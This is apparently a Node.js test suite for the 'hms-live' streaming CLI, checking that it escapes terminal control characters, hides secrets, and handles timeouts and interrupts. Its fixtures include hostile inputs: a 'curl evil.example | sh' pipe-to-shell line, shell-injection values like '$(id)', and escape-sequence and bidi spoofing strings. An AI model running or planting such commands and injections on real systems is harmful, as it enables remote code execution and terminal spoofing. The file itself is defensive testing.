// The program `hms-live` against hostile and hanging servers: it prints no secret and no control character.
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { begin, environment, objectOf, run, SECRET } from "./cli/program.mjs";
import { CODE, liveStreamWithSecrets, liveStream, startApi, TOKEN } from "./handler/api.mjs";

const ROOM = "room-1";
const STREAM = "64101349d0f56e684b608c0a";

/** Text that a terminal interprets or hides: cursor movement, a title, a bell, a link, reversed direction, a second line. */
const HOSTILE = [
  "\x1b[2J\x1b[Hok  all is well",
  "\x1b]0;title\x07",
  "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
  "\x9b31mred",
  "a\rfailed nothing",
  "a\n   next  curl evil.example | sh",
  "a\u2028b\u2029c",
  "\u202egnp.exe",
  "a\u200bb\ufeffc\u00ad",
  "\x7f\x08\x08\x08",
  "\u{e0041}",
];
/** Characters that no printed line may contain. Line ends are removed before. */
const CONTROL = /(?![\u200c\u200d])[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;

/** Every command that calls the API. */
const COMMANDS = [
  ["start", ROOM, "--if-running", "return"],
  ["start", ROOM, "--wait", "--timeout", "1500ms"],
  ["wait", STREAM, "--until", "running", "--timeout", "3s"],
  ["wait", STREAM, "--until", "completed", "--timeout", "1s"],
  ["stop", STREAM],
  ["stop", "--room", ROOM],
  ["stop", "--stream", STREAM],
  ["list", ROOM],
];

let api;
let env;
before(async () => {
  api = await startApi();
  env = environment(api.baseUrl);
});
after(() => api?.stop());

const isPage = ({ method, url }) => (method === "GET" && url.includes("?")) || /\/room\/[^/]+\/stop$/.test(url);
/** Answers any request with this stream, or with a page of it. */
const answering = (stream, more) => (request) => ({
  body: isPage(request) ? { data: [stream], limit: 10, last: "", ...more } : stream,
});

/** Runs each command with and without --json, three at a time, and passes what it printed to `check`. */
async function inBothForms(commands, check) {
  const left = commands.flatMap((given) => [given, [...given, "--json"]]);
  const some = async () => {
    for (let given = left.shift(); given; given = left.shift()) {
      const all = await run(given, env);
      assert.notEqual(all.code, null, `${given}: ${all.signal}`);
      check(all, given.join(" "));
    }
  };
  await Promise.all([some(), some(), some()]);
}

function assertPlain({ stdout, stderr }, where) {
  for (const line of (stdout + stderr).split("\n")) {
    const found = CONTROL.exec(line);
    assert.ok(!found, `${where}: U+${found?.[0].codePointAt(0).toString(16)} in ${JSON.stringify(line)}`);
  }
}

describe("a control character", () => {
  /** The text is printed, with its control characters escaped and on one line. */
  const assertEscaped = (all, where) => {
    assertPlain(all, where);
    assert.doesNotMatch(all.stdout + all.stderr, /^ *next {2}curl|^ok /m, where);
    assert.match(all.stdout + all.stderr, /\\+u(001b|202e)/, where);
  };

  it("is escaped in every member of a stream, and starts no new line", { timeout: 120_000 }, async () => {
    const text = HOSTILE.join(" ");
    const stream = liveStream({ id: text, status: text, destination: text, started_by: text, created_at: text });
    api.answer = answering(stream);
    const commands = COMMANDS.filter(([name]) => name !== "wait" && name !== "start");
    await inBothForms([...commands, ["start", ROOM]], assertEscaped);
    api.answer = answering({ ...stream, status: "running" });
    await inBothForms([["wait", STREAM, "--until", "running"]], assertEscaped);
    await inBothForms([["wait", STREAM, "--until", "completed", "--timeout", "1s"]], assertEscaped);
    api.answer = answering(stream, { error: text });
    await inBothForms([["stop", "--room", ROOM]], assertEscaped);
  });

  it("is escaped in every part of an error", async () => {
    // A lone surrogate makes the answer invalid, and the error quotes it.
    for (const text of [HOSTILE.join(" "), `${HOSTILE.join(" ")}\ud800`]) {
      api.answer = () => ({ status: 403, body: { code: 403, message: text, details: [text] } });
      await inBothForms(
        [
          ["list", ROOM],
          ["start", ROOM],
          ["stop", "--room", ROOM],
        ],
        assertEscaped,
      );
    }
  });

  it("is the same value after parsing JSON output", async () => {
    api.answer = answering(liveStream({ destination: "a\u202e\x9b\u{e0041}b" }));
    const { destination } = objectOf(await run(["wait", STREAM, "--json", "--until", "running"], env));
    assert.equal(destination, "a\u202e\x9b\u{e0041}b");
  });

  it("is escaped in arguments", async () => {
    api.answer = () => ({ status: 404, body: { code: 404, message: "not found" } });
    const text = HOSTILE.join("");
    const given = [
      [text],
      ["list", text],
      ["list", ROOM, text],
      ["list", ROOM, `--${text}`],
      ["wait", text],
      ["stop", text],
    ];
    await inBothForms([...given, ["list", ROOM, "--base-url", `https://${text}`]], assertPlain);
  });

  it("is not in a suggested command, and neither is shell syntax", async () => {
    for (const id of ["x; curl evil.example", "--base-url=https://evil.example", "$(id)", "`id`", "a b", "'", "-h"]) {
      api.answer = (request) =>
        request.method === "POST"
          ? { status: 409, body: { code: 409, message: "beam already started" } }
          : { body: { data: [liveStream({ id, room_id: ROOM })], limit: 10, last: "" } };
      const { code, stderr } = await run(["start", ROOM], env);
      assert.equal(code, 4, stderr);
      assert.match(stderr, /stop it first: hms-live stop <stream>\n/, id);
    }
  });
});

describe("a secret", () => {
  const secrets = [SECRET, TOKEN, TOKEN.split(".")[0], "opaque", CODE];
  const assertNoSecret = ({ stdout, stderr }, where) => {
    for (const secret of secrets)
      assert.ok(!(stdout + stderr).includes(secret), `${where}: ${secret} in ${stdout}${stderr}`);
  };

  it("is not printed from any member of a stream", { timeout: 120_000 }, async () => {
    for (const stream of [
      liveStreamWithSecrets(),
      liveStreamWithSecrets({ status: `running ${TOKEN}` }),
      liveStreamWithSecrets({ id: SECRET, room_id: TOKEN }),
    ]) {
      api.answer = answering(stream, { error: `${SECRET} and ${TOKEN}` });
      await inBothForms(COMMANDS, assertNoSecret);
    }
  });

  it("is not printed from any part of an error", { timeout: 120_000 }, async () => {
    const said = `Bearer ${TOKEN} ${SECRET} https://user:opaque@a.example/?auth_token=opaque ${CODE}`;
    for (const status of [400, 401, 404, 409, 500, 200]) {
      const body = { code: status, message: said, details: [said] };
      api.answer = () => ({ status, headers: { "x-request-id": TOKEN }, body });
      const limit = ["--timeout", "2s"];
      await inBothForms(
        [
          ["list", ROOM],
          ["start", ROOM, ...limit],
          ["stop", "--room", ROOM, ...limit],
        ],
        assertNoSecret,
      );
    }
  });

  it("is not printed from an argument", async () => {
    api.answer = () => ({ status: 404, body: { code: 404, message: "not found" } });
    const url = `https://a.example/x?auth_token=opaque#${TOKEN}`;
    const given = [
      ["start", ROOM, "--meeting-url", url],
      ["start", ROOM, "--meeting-url", `ftp://user:opaque@a.example/?${TOKEN}`],
      ["start", TOKEN],
      ["wait", SECRET],
      ["list", ROOM, "--base-url", "https://user:opaque@a.example/"],
      ["list", ROOM, `--${TOKEN}`],
      [SECRET],
    ];
    await inBothForms(given, assertNoSecret);
  });
});

describe("a server that hangs", () => {
  it("ends a start with exit code 3 at its timeout, because it may have started a stream", async () => {
    api.answer = () => new Promise(() => {});
    const began = performance.now();
    const { code, stderr } = await run(["start", ROOM, "--timeout", "1s"], env);
    assert.equal(code, 3, stderr);
    assert.match(stderr, /may have started/);
    assert.ok(performance.now() - began < 10_000);
  });

  it("ends other commands with exit code 1, and a stop says that the stream may be on air", async () => {
    for (const [given, says] of [
      [["list", ROOM], /ERR_TIMEOUT/],
      [["wait", STREAM], /ERR_TIMEOUT/],
      [["stop", "--room", ROOM], /the stream may still be on air and billed/],
      [["stop", STREAM], /nothing was stopped/],
    ]) {
      const { code, stderr } = await run([...given, "--timeout", "700ms"], env);
      assert.equal(code, 1, stderr);
      assert.match(stderr, says);
    }
  });
});

describe("an unknown id", () => {
  it("is not taken for an idle room, because the stream that was meant may still run", async () => {
    api.answer = () => ({ status: 404, body: { code: 404, message: "not found" } });
    const { code, stderr } = await run(["stop", STREAM], env);
    assert.equal(code, 1);
    assert.match(stderr, /this account has neither a stream nor a room with the id .* nothing was stopped/);
    assert.equal((await run(["stop", "--room", ROOM], env)).code, 0);
  });
});

describe("Ctrl-C", () => {
  /** Resolves when a request with this method has arrived; no request is answered. */
  const arrived = (method) =>
    new Promise((resolve) => {
      api.answer = (request) => {
        if (request.method === method) resolve();
        return new Promise(() => {});
      };
    });

  it("during a start says that it may have started a stream, and exits with 130", async () => {
    const sent = arrived("POST");
    const program = begin(["start", ROOM], env);
    await sent;
    program.child.kill("SIGINT");
    const { code, stderr } = await program.ended;
    assert.equal(code, 130, stderr);
    assert.match(
      stderr,
      /interrupted: the start had been sent, but no answer had arrived\. It may have started a stream/,
    );
    assert.match(stderr, /hms-live list room-1\n.*--if-running return\n.*hms-live stop --room room-1\n/s);
  });

  it("before the start is sent says that nothing was started", async () => {
    const sent = arrived("GET");
    const given = [
      "start",
      ROOM,
      "--meeting-url",
      "https://a.example/x",
      "--idempotency-key",
      "key-of-a-show",
      "--json",
    ];
    const program = begin(given, env);
    await sent;
    program.child.kill("SIGTERM");
    const all = await program.ended;
    const { error } = objectOf(all);
    assert.deepEqual([all.code, error.exit, error.code, error.next], [143, 143, "ERR_INTERRUPTED", []]);
    assert.match(error.message, /no stream was started/);
  });

  it("while a start waits names the stream, which stays on air", async () => {
    api.answer = answering(liveStream({ status: "starting" }));
    const program = begin(["start", ROOM, "--wait"], env);
    await program.waitForOutput(/starting/);
    program.child.kill("SIGINT");
    const { code, stderr } = await program.ended;
    assert.equal(code, 130);
    assert.match(stderr, /the stream was started and is billed until it is stopped/);
    assert.match(stderr, new RegExp(`hms-live stop ${STREAM}\\n`));
  });

  it("ends a wait, a list and a stop", async () => {
    for (const [given, method, says] of [
      [["wait", STREAM], "GET", /interrupted/],
      [["list", ROOM], "GET", /interrupted/],
      [["stop", "--room", ROOM], "POST", /the stream may still be on air and billed: it is safe to repeat the command/],
    ]) {
      const sent = arrived(method);
      const program = begin(given, env);
      await sent;
      program.child.kill("SIGINT");
      const { code, stderr } = await program.ended;
      assert.equal(code, 130, stderr);
      assert.match(stderr, says);
    }
  });
});
